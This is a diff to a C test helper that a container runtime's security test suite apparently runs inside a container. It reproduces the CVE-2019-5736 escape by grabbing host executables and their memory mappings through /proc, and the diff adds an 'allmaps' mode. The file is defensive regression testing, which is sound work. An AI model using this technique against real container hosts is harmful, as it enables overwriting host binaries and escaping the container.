@@ -1,4 +1,4 @@
-/* exe-grabber OUTDIR SECONDS [PID [maps]]: the CVE-2019-5736 attacker, run inside a container by
+/* exe-grabber OUTDIR SECONDS [PID [maps|allmaps]]: the CVE-2019-5736 attacker, run inside a container by
  * tests/integration/security.bats. For SECONDS it watches every process in its /proc (or only PID) whose
  * /proc/N/exe is not a file of its own root (with PID: that one's, whatever it is), keeps that exe open
  * (O_PATH) and, once nothing runs the file any more (ETXTBSY ends), opens it for writing through
@@ -7,7 +7,8 @@
  * a bare rootfs. It ends early once OUTDIR/stop exists (a test done with its rounds: on a slow machine
  * SECONDS can then be generous). With "maps" it also grabs every /proc/PID/map_files entry that is the same
  * file as the exe ("opened DEV:INO map RANGE"): a mapping of the writable host binary is as good as its exe
- * to an attacker with CAP_SYS_ADMIN. */
+ * to an attacker with CAP_SYS_ADMIN. With "allmaps", every other file mapped there too ("opened DEV:INO
+ * other RANGE"), such as the sealed memfd holding the copy of husk's data segment. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -35,7 +36,7 @@ static int n_grabs;
 static FILE *out;
 static struct stat self_st, busybox_st;
 static int scan_all;  /* no PID given: skip the programs of our own root */
-static int scan_maps; /* "maps": the exe's mappings too */
+static int scan_maps; /* "maps": the exe's mappings too; 2 ("allmaps"): every mapped file */
 
 static void grab_maps(const char *pid, const struct stat *exe)
 {
@@ -47,20 +48,25 @@ static void grab_maps(const char *pid, const struct stat *exe)
 	snprintf(path, sizeof path, "/proc/%s/map_files", pid);
 	d = opendir(path);
 	while (d && (e = readdir(d)) != NULL && n_grabs < MAX_GRABS) {
-		int fd;
+		int fd, same;
 		if (e->d_name[0] == '.')
 			continue;
 		snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, e->d_name);
 		fd = open(path, O_PATH | O_CLOEXEC);
 		if (fd < 0)
 			continue;
-		if (fstat(fd, &st) < 0 || st.st_dev != exe->st_dev || st.st_ino != exe->st_ino) {
+		if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode)) {
+			close(fd);
+			continue;
+		}
+		same = st.st_dev == exe->st_dev && st.st_ino == exe->st_ino;
+		if (!same && scan_maps < 2) {
 			close(fd);
 			continue;
 		}
 		grabs[n_grabs++] = (struct grab){ .fd = fd, .dev = st.st_dev, .ino = st.st_ino };
-		fprintf(out, "opened %lu:%lu map %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino,
-			e->d_name);
+		fprintf(out, "opened %lu:%lu %s %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino,
+			same ? "map" : "other", e->d_name);
 	}
 	if (d)
 		closedir(d);
@@ -156,7 +162,10 @@ int main(int argc, char **argv)
 	stat("/bin/busybox", &busybox_st);
 	end = now() + atof(argv[2]);
 	scan_all = argc <= 3;
-	scan_maps = argc > 4 && strcmp(argv[4], "maps") == 0;
+	if (argc > 4 && strcmp(argv[4], "maps") == 0)
+		scan_maps = 1;
+	else if (argc > 4 && strcmp(argv[4], "allmaps") == 0)
+		scan_maps = 2;
 	fprintf(out, "started\n");
 	fflush(out);
 	while (now() < end && access(stoppath, F_OK) < 0) {
